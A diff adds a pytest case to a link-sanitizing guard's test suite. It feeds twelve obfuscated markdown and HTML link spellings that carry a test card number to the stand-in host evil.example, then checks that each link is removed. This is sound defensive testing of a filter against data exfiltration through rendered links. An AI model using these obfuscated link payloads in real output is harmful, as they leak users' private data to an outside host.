@@ -315,6 +315,30 @@ class TestLinks:
         assert "evil.example" not in out
         assert out.endswith(" end")
 
+    @pytest.mark.parametrize(
+        "text",
+        [
+            r"![x](https://evil.example/\)§)",
+            r"![x](<https://evil.example/\>§>)",
+            "![x](https://evil.example/?q=\u00a0§)",
+            "![x](https://evil.example/((a)§)",
+            "![x]\n\n[x]: <https://evil.example/ §>",
+            "[1]: &#104;&#116;&#116;&#112;&#115;&#58;&#47;&sol;evil.example/?q=§",
+            "[![i](https://a.example/b.png)](https://evil.example/?q=§)",
+            "https://evil.example/)§",
+            "bücher.evil.example/§",
+            'url("https://evil.example/)§")',
+            "<img alt=x' title='> ' src='/\n/evil.example/?q=§'",
+            "<img src=/&#10;/evil.example/?q=§",
+        ],
+    )
+    def test_a_spelling_of_markdown_or_html_hid_a_link_that_carries(self, text: str) -> None:
+        for value in ("4111111111111111", "".join(f"&#{ord(digit)};" for digit in "4111111111111111")):
+            out = guard(STRICT).whole(text.replace("§", value) + " and so on")
+            assert value not in out
+            assert "#link-removed" in out
+            assert out.endswith(" and so on")
+
     @pytest.mark.parametrize("place", PLACES)
     @pytest.mark.parametrize("surrogate", [NAME, MAIL, quote(MAIL), MAIL.lower()])
     def test_a_link_that_carries_a_surrogate_is_taken_out(self, place: str, surrogate: str) -> None:
